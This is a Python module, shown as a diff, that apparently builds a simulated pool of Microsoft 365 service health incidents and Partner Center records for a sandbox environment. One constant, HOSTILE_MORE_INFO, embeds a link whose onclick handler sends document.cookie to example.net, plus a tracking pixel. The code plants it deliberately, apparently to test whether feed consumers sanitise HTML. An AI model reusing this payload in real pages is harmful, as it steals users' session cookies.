@@ -1,0 +1,348 @@
+"""The shared pool of service health issues: Graph issue JSON and Partner Center incidents.
+
+One pool serves every tenant; each tenant sees a subset (see data.py), so the same incident
+shows up for many customers, as a real widespread outage does.
+"""
+
+from __future__ import annotations
+
+import html
+import json
+import random
+import re
+from dataclasses import dataclass, field
+from datetime import datetime, timedelta
+
+from desktop.sandbox import issue_catalog as cat
+from desktop.sandbox.catalog import PC_WORKLOADS, SERVICE_NAMES
+from desktop.sandbox.timefmt import human, iso_ms, iso_z
+
+ACTIVE_INCIDENT_STATUSES = (
+    ("Investigating", 3),
+    ("ServiceDegradation", 5),
+    ("ServiceInterruption", 2),
+    ("RestoringService", 3),
+    ("ExtendedRecovery", 1),
+    ("VerifyingService", 2),
+)
+# How bad a status is, to pick a service's overall health from the issues touching it.
+STATUS_RANK = {
+    "ServiceInterruption": 9,
+    "ServiceDegradation": 8,
+    "ExtendedRecovery": 7,
+    "RestoringService": 6,
+    "Investigating": 5,
+    "VerifyingService": 4,
+}
+UNKNOWN_ACTIVE_RANK = 3
+RECENT_RESOLVED = timedelta(hours=72)
+
+HOSTILE_MORE_INFO = (
+    'More info: Admins can follow delivery with the <a href="https://learn.microsoft.com/en-us/'
+    'exchange/monitoring/trace-an-email-message/message-trace-modern-eac" '
+    "onclick=\"window.location='https://example.net/collect?c='+document.cookie\">message trace "
+    'documentation</a>.<img src="https://example.net/pixel.png" width="1" height="1" alt="">'
+)
+
+
+@dataclass
+class Issue:
+    id: str
+    template: cat.IssueTemplate
+    status: str
+    active: bool
+    reach: float  # share of tenants (that have the service) that this issue touches
+    start: datetime
+    end: datetime | None
+    posts: list[dict[str, object]] = field(default_factory=list)
+    graph: dict[str, object] = field(default_factory=dict)
+    graph_json: bytes = b""
+    forced_first_customer: bool = False  # also touches the customer generated first
+
+    @property
+    def service(self) -> str:
+        return self.template.service
+
+    @property
+    def has_report(self) -> bool:
+        return self.status == "PostIncidentReviewPublished"
+
+    def report(self) -> bytes:
+        t = self.template
+        lines = (
+            f"Post-incident report {self.id}",
+            "",
+            f"Title: {t.title}",
+            f"Service: {SERVICE_NAMES[t.service]}",
+            f"Start time: {human(self.start)}",
+            f"End time: {human(self.end) if self.end else 'ongoing'}",
+            f"User impact: {t.user_impact}",
+            f"Root cause: {t.root_cause}",
+            "Next steps: review change management and monitoring for this component.",
+        )
+        return ("\r\n".join(lines) + "\r\n").encode("utf-8")
+
+    def pc_incident(self, impacted_customers: int) -> dict[str, object]:
+        """The Partner Center service incident form of this issue."""
+        return {
+            "id": self.id,
+            "messageType": "incident" if self.template.classification == "Incident" else "advisory",
+            "startTime": iso_z(self.start),
+            "endTime": iso_z(self.end) if self.end else None,
+            "status": self.pc_status,
+            "workload": PC_WORKLOADS[self.service],
+            "affectedWorkloadNames": [SERVICE_NAMES[self.service]],
+            "impactedArea": self.template.feature,
+            "resolved": not self.active,
+            "impactedCustomers": impacted_customers,
+            "category": self.template.feature_group,
+            "severity": {"critical": "Sev1", "warning": "Sev2"}.get(self.pc_status, "Sev3"),
+            "messages": [
+                {"publishedTime": p["createdDateTime"], "messageText": _text(p)} for p in self.posts
+            ],
+        }
+
+    @property
+    def pc_status(self) -> str:
+        if not self.active:
+            return "normal"
+        if self.template.classification == "Advisory":
+            return "information"
+        return "critical" if self.status == "ServiceInterruption" else "warning"
+
+
+def _text(post: dict[str, object]) -> str:
+    description = post["description"]
+    assert isinstance(description, dict)
+    content = str(description["content"]).replace("<br>", "\n")
+    return html.unescape(re.sub(r"<[^>]+>", "", content))
+
+
+def _weighted(rng: random.Random, options: tuple[tuple[str, int], ...]) -> str:
+    return rng.choices([o[0] for o in options], weights=[o[1] for o in options])[0]
+
+
+def _reach(rng: random.Random) -> float:
+    tier = rng.random()
+    if tier < 0.25:
+        return rng.uniform(0.2, 0.6)  # widespread
+    if tier < 0.65:
+        return rng.uniform(0.05, 0.2)
+    return rng.uniform(0.005, 0.04)  # narrow: a few customers
+
+
+def build_pool(seed: int, now: datetime) -> list[Issue]:
+    rng = random.Random(f"{seed}:issues")
+    used: set[str] = set()
+    pool: list[Issue] = []
+
+    def new_id(prefix: str) -> str:
+        while True:
+            candidate = f"{prefix}{rng.randint(100000, 999999)}"
+            if candidate not in used:
+                used.add(candidate)
+                return candidate
+
+    for index, tmpl in enumerate(cat.TEMPLATES):
+        copies = 2 if rng.random() < 0.7 else 1
+        for copy in range(copies):
+            hostile = index == 0 and copy == 0
+            active = hostile or (copy == 0 and rng.random() < 0.4)
+            issue = _make_issue(rng, tmpl, new_id(tmpl.prefix), active, now, hostile)
+            issue.reach = 0.5 if hostile else _reach(rng)
+            pool.append(issue)
+    if not any(i.status == "ServiceInterruption" for i in pool):
+        # Every run needs one critical outage, so that the worst status is always on show.
+        worst = next(i for i in pool[1:] if i.active and i.template.classification == "Incident")
+        worst.status = "ServiceInterruption"
+    maintenance = _make_issue(rng, cat.MAINTENANCE, new_id("FM"), True, now, False)
+    maintenance.status = cat.UNKNOWN_STATUS
+    maintenance.reach = 0.03
+    maintenance.forced_first_customer = True
+    pool.append(maintenance)
+    for issue in pool:
+        issue.graph = _graph_issue(issue)
+        issue.graph_json = json.dumps(issue.graph, ensure_ascii=False).encode("utf-8")
+    return pool
+
+
+def _make_issue(
+    rng: random.Random,
+    tmpl: cat.IssueTemplate,
+    issue_id: str,
+    active: bool,
+    now: datetime,
+    hostile: bool,
+) -> Issue:
+    end: datetime | None
+    if active:
+        start = now - timedelta(minutes=rng.randint(45, 72 * 60))
+        end = None
+        if tmpl.classification == "Incident":
+            status = "ServiceDegradation" if hostile else _weighted(rng, ACTIVE_INCIDENT_STATUSES)
+        else:
+            status = "ServiceDegradation" if rng.random() < 0.8 else "Investigating"
+    else:
+        recent = rng.random() < 0.35
+        ago = rng.randint(20, 72 * 60) if recent else rng.randint(72 * 60, 30 * 24 * 60)
+        end = now - timedelta(minutes=ago, seconds=rng.randint(0, 59))
+        start = end - timedelta(minutes=rng.randint(60, 30 * 60))
+        roll = rng.random()
+        if tmpl.classification == "Incident" and roll < 0.3 and now - end > timedelta(days=1):
+            status = "PostIncidentReviewPublished"
+        elif roll > 0.9:
+            status = "FalsePositive"
+        else:
+            status = "ServiceRestored"
+    start = start.replace(second=0, microsecond=0)
+    issue = Issue(issue_id, tmpl, status, active, 0.0, start, end)
+    issue.posts = _posts(rng, issue, now, hostile)
+    return issue
+
+
+def _posts(
+    rng: random.Random, issue: Issue, now: datetime, hostile: bool
+) -> list[dict[str, object]]:
+    t = issue.template
+    count = rng.randint(1, 8)
+    if not issue.active:
+        count = max(count, 2)
+    if hostile:
+        count = max(count, 3)
+    first = issue.start + timedelta(minutes=rng.randint(5, 20))
+    if issue.end is not None:
+        last = issue.end + timedelta(minutes=rng.randint(5, 40))
+    else:
+        last = max(first, now - timedelta(minutes=rng.randint(3, 40)))
+    last = min(last, now - timedelta(minutes=1))
+    first = min(first, last)
+    span = (last - first) / max(count - 1, 1)
+    times = [first + span * i for i in range(count)]
+    times = [
+        tm + timedelta(seconds=rng.randint(0, 59), milliseconds=rng.randint(0, 999)) for tm in times
+    ]
+    service = SERVICE_NAMES[t.service]
+    scope = rng.choice(cat.SCOPES)
+    posts: list[dict[str, object]] = []
+    for i, when in enumerate(times):
+        next_update = (when + timedelta(hours=rng.randint(1, 4))).replace(minute=30, second=0)
+        post_type = "Regular"
+        final = issue.end is not None and i == count - 1
+        if final and issue.status == "PostIncidentReviewPublished":
+            post_type = "Strategic"
+            content = (
+                f"Title: {t.title}<br><br>A post-incident report has been published. The report "
+                "contains a detailed timeline, the root cause and the actions we're taking to "
+                "prevent this problem from happening again."
+            )
+        elif final:
+            content = _final(t, issue, scope)
+        elif i == 0:
+            content = (
+                f"Title: {t.title}<br><br>User impact: {t.user_impact}<br><br>Current status: "
+                f"We're investigating a potential issue with {service} and are reviewing service "
+                f"telemetry to understand the impact.<br><br>Scope of impact: {scope}<br><br>"
+                f"Next update by: {human(next_update)}"
+            )
+        elif rng.random() < 0.25:
+            post_type = "Quick"
+            content = (
+                f"Current status: {rng.choice(cat.QUICK)}<br><br>"
+                f"Next update by: {human(next_update)}"
+            )
+        else:
+            progress = rng.choice(cat.PROGRESS).format(pct=rng.choice((30, 50, 75, 90)))
+            parts = [f"Title: {t.title}", f"User impact: {t.user_impact}"]
+            if hostile and i == 1:
+                parts.append(HOSTILE_MORE_INFO)
+            elif t.link and i == 1:
+                parts.append(
+                    f'More info: For more information, see <a href="{t.link}">this article</a>.'
+                )
+            parts += [
+                f"Current status: {progress}",
+                f"Scope of impact: {scope}",
+                f"Start time: {human(issue.start)}",
+            ]
+            if i >= 2:
+                parts.append(f"Root cause: {t.root_cause}")
+            parts.append(f"Next update by: {human(next_update)}")
+            content = "<br><br>".join(parts)
+        posts.append(
+            {
+                "createdDateTime": iso_ms(when),
+                "postType": post_type,
+                "description": {"contentType": "Html", "content": content},
+            }
+        )
+    return posts
+
+
+def _final(t: cat.IssueTemplate, issue: Issue, scope: str) -> str:
+    assert issue.end is not None
+    if issue.status == "FalsePositive":
+        status = (
+            "After further investigation, we've determined that the service wasn't "
+            "affected and that this event was a false positive."
+        )
+    else:
+        status = (
+            "We've confirmed that the mitigation has resolved the impact after monitoring "
+            "the service telemetry."
+        )
+    parts = [
+        f"Title: {t.title}",
+        f"User impact: {t.user_impact}",
+        f"Final status: {status}",
+        f"Scope of impact: {scope}",
+        f"Start time: {human(issue.start)}",
+        f"End time: {human(issue.end)}",
+        f"Root cause: {t.root_cause}",
+        "Next steps: We're reviewing our change and monitoring procedures to help prevent "
+        "similar impact in the future.",
+    ]
+    if t.classification == "Incident":
+        parts.append("This is the final update for the event.")
+    return "<br><br>".join(parts)
+
+
+def _graph_issue(issue: Issue) -> dict[str, object]:
+    t = issue.template
+    details = [{"name": "NotifyInApp", "value": "True"}] if t.classification == "Incident" else []
+    last = str(issue.posts[-1]["createdDateTime"]) if issue.posts else iso_z(issue.start)
+    return {
+        "id": issue.id,
+        "title": t.title,
+        "service": SERVICE_NAMES[t.service],
+        "feature": t.feature,
+        "featureGroup": t.feature_group,
+        "classification": t.classification,
+        "origin": "Microsoft",
+        "status": issue.status,
+        "startDateTime": iso_z(issue.start),
+        "endDateTime": iso_z(issue.end) if issue.end else None,
+        "lastModifiedDateTime": last,
+        "isResolved": not issue.active,
+        "impactDescription": t.impact,
+        "details": details,
+        "posts": issue.posts,
+    }
+
+
+def service_status(issues: list[Issue], now: datetime) -> str:
+    """A service's overall health from the issues touching it in one tenant."""
+    best, best_rank = "ServiceOperational", 0
+    for issue in issues:
+        if issue.active:
+            rank = STATUS_RANK.get(issue.status, UNKNOWN_ACTIVE_RANK)
+        elif (
+            issue.end is not None
+            and now - issue.end < RECENT_RESOLVED
+            and issue.status in ("ServiceRestored", "PostIncidentReviewPublished")
+        ):
+            rank = 1
+        else:
+            continue
+        if rank > best_rank:
+            best, best_rank = issue.status, rank
+    return best
